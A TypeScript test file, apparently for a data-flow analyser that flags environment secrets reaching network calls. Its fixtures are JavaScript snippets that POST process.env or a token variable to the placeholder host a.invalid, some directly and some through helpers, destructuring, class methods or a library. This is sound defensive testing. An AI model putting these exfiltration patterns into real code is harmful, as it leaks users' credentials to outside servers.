import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { flowLines } from '../../../../test/behave.ts';

const ONE = 'process.env.A_TOKEN → fetch as content';
const WHOLE = 'process.env → fetch as content';

/** What goes where, when what `ask` gives is sent and `env` may be the environment. */
const flowsOf = (code: string, ask = 'ask'): string[] =>
  flowLines({
    'index.js': `${code} exports.go = async (options = {}) => { const env = options.env ?? process.env; const told = await ${ask}({ env, log: 1 }); await fetch('https://a.invalid', { method: 'POST', body: told }); };`,
  });

describe('the environment that is handed to a function in an object', () => {
  for (const [how, ask, code] of [
    ['by names', 'ask', `const ask = async ({ env }) => format(env.A_TOKEN);`],
    ['by names in brackets', 'ask', `const ask = async ({ env }) => format(env['A_TOKEN']);`],
    [
      'by names, in a method of one of a list',
      'all.find(one => one.is).ask',
      `class P { async ask({ env }) { return format(env.A_TOKEN); } } const all = [new P()];`,
    ],
  ] as const)
    it(`is not given out whole where variables are read ${how}`, () => assert.deepEqual(flowsOf(code, ask), [ONE]));

  for (const [how, code] of [
    ['is written out', `const ask = async ({ env }) => JSON.stringify(env);`],
    ['is read by names that are not known', `const ask = async ({ env }) => Object.keys(env).map(name => env[name]);`],
    ['is handed on', `const ask = async ({ env }) => format(env);`],
    ['is taken with the rest', `const ask = async ({ log, ...rest }) => format(rest);`],
  ] as const)
    it(`is given out whole where it ${how}`, () => assert.ok(flowsOf(code).includes(WHOLE), flowsOf(code).join('\n')));
});

describe('a variable that is read for somebody by its name', () => {
  const sent = (code: string): string[] => flowLines({ 'index.js': `${code} fetch('https://a.invalid', { method: 'POST', body: told });` });

  it('is that variable', () =>
    assert.deepEqual(sent(`const read = (of, key) => of[key]; const told = read(process.env, 'A_TOKEN');`), [ONE]));
  it('is any where the name is not known', () =>
    assert.deepEqual(sent(`const read = (of, key) => of[key]; const told = read(process.env, process.argv[2]);`), [
      'process.env.* → fetch as content',
    ]));
  it('is that variable where a library is asked for it', () =>
    assert.deepEqual(sent(`const env = require('env-var').from(process.env); const told = env.get('A_TOKEN').asString();`), [
      'env-var.from().get → fetch as content',
    ]));
});

describe('the environment, or what somebody gives instead', () => {
  it('is asked for one variable', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `exports.go = async (options = {}) => { const env = options.env ?? process.env; await fetch('https://a.invalid', { method: 'POST', body: env.A_TOKEN }); };`,
      }),
      [ONE],
    ));
});
